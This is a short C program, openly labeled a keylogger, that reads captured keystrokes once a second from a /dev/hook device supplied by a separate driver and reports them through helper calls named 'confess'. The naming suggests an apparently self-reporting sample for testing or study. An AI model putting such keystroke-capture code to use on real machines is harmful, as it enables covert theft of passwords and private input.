// Keylogger: the driver /dev/hook (villains.ko) shares the keyboard's interrupt; this program only fetches the catch, once a second.
#include "lib/villain.h"

int main(void) {
    int hook = open("/dev/hook", READ_ONLY);
    if (hook < 0) return fail("keylog-hook", "/dev/hook", hook);
    confess("keylog-hook", "stage=armed");
    for (;; sleep_ms(1000)) {
        unsigned char keys[64];
        int count = read(hook, keys, sizeof keys);
        if (count > 0) confess_keys("keylog-hook", keys, count);
    }
}
